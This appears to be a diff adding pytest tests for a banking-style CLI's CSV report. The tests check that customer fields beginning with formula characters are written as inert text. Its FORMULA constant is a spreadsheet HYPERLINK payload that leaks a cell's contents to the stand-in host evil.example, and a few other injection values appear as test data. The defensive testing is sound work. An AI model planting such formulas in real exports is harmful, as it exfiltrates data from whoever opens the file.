@@ -1,0 +1,78 @@
+"""What the CLI writes for people and spreadsheets stays inert whatever the customer data holds
+(formulas, terminal escapes), and a full disk is a one-line error, not a traceback."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+from pathlib import Path
+
+from click.testing import CliRunner, Result
+from hypothesis import given
+from hypothesis import strategies as st
+
+from guanxi.cli.main import cli
+from guanxi.engine.classify import classify
+from guanxi.engine.plan.followups import insert_followups
+from guanxi.engine.report.files import FORMULA_START, as_text
+from guanxi.engine.ruleset import RuleSet
+from guanxi.engine.store import Store
+from tests.daemon_helpers import invitation
+
+RULES = Path(__file__).parent.parent / "rules"
+NOW = dt.datetime(2026, 11, 28, 2, 0, tzinfo=dt.UTC)
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
+
+
+def run(*args: str) -> Result:
+    return CliRunner().invoke(cli, [*args], env={"COLUMNS": "200"})
+
+
+def csv_rows(path: Path) -> list[list[str]]:
+    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+
+
+# --- formulas in CSV files ----------------------------------------------------------------------
+
+
+def test_csv_formula_in_rm_id_is_written_as_text(
+    store: Store, ruleset: RuleSet, tmp_path: Path
+) -> None:
+    store.upsert_customers([
+        {"customer_id": "C1", "name": "张三", "rm_id": FORMULA, "balance": 100.0},
+        {"customer_id": "C2", "name": "@SUM(1+1)", "rm_id": "-2+3", "balance": -12.5},
+    ])  # fmt: skip
+    classify(store, ruleset, NOW)
+    tasks = [
+        invitation(c, "E1", NOW, kind="task", channel="rm_task", owner=owner)
+        for c, owner in (("C1", FORMULA), ("C2", "-2+3"))
+    ]
+    insert_followups(store, tasks, "b1", NOW)
+    result = run("report", "--rules", str(RULES), "--store", store.location,
+                 "--csv", str(tmp_path / "out"))  # fmt: skip
+    assert result.exit_code == 0, result.output
+    cells = [c for p in (tmp_path / "out").iterdir() for r in csv_rows(p) for c in r]
+    assert "'" + FORMULA in cells and "'-2+3" in cells
+    assert not [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)]
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@given(st.text(max_size=12))
+def test_csv_cell_never_starts_a_formula_and_keeps_its_text(cell: str) -> None:
+    shown = as_text(cell)
+    assert shown in (cell, "'" + cell)
+    if shown.startswith(FORMULA_START):
+        assert is_number(shown)  # only a plain number such as -12.5 may start with a sign
+
+
+def test_csv_plain_negative_numbers_stay_numbers() -> None:
+    assert [as_text(c) for c in ("-12.5", "-3", "+7", "-1e5", "-", "-x", "=1")] == [
+        "-12.5", "-3", "+7", "-1e5", "'-", "'-x", "'=1",
+    ]  # fmt: skip
